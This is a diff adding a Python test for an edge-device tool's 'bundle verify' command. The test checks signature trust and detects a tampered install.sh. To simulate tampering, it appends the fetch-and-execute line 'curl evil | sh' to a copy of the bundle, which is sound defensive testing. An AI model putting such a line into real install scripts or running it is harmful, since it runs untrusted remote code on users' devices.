@@ -4,6 +4,7 @@ signature hold), and install.sh --root laying one into a rootfs without running 
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import subprocess
@@ -129,3 +130,24 @@ def test_install_root_lays_the_bundle_into_a_rootfs(jetson_bundle: tuple[Path, P
     assert not (etc / "systemd/system/edged.service").exists() and not (rootfs / "opt/edged").exists()
     assert not (wants / "edged.service").exists() and not (rootfs / "usr/lib/sysusers.d/edged.conf").exists()
     assert (etc / "edged/edged.yaml").is_file() and (rootfs / "etc/hostname").read_text() == "keep-me\n"
+
+
+def test_bundle_verify_checks_signature_and_every_file(jetson_bundle: tuple[Path, Path], tmp_path: Path) -> None:
+    bundle, keys = jetson_bundle
+    r = edged_cli("bundle", "verify", str(bundle), "--keys", str(keys))
+    assert r.returncode == 0 and "signature and" in r.stdout and "target jetson-jp6" in r.stdout, r.stderr
+    generate_key(tmp_path / "other")
+    r = edged_cli("bundle", "verify", str(bundle), "--keys", str(tmp_path / "other"))
+    assert r.returncode == 1 and "does not trust" in r.stderr
+    # one file swapped inside the tar, bundle.json and its signature untouched
+    altered = tmp_path / "altered.tar"
+    with tarfile.open(bundle) as src, tarfile.open(altered, "w") as dst:
+        for m in src.getmembers():
+            f = src.extractfile(m) if m.isfile() else None
+            data = f.read() if f else b""
+            if m.name == "edged-bundle/install.sh":
+                data += b"\ncurl evil | sh\n"
+                m.size = len(data)
+            dst.addfile(m, io.BytesIO(data) if m.isfile() else None)
+    r = edged_cli("bundle", "verify", str(altered), "--keys", str(keys))
+    assert r.returncode == 1 and "install.sh does not match bundle.json" in r.stderr
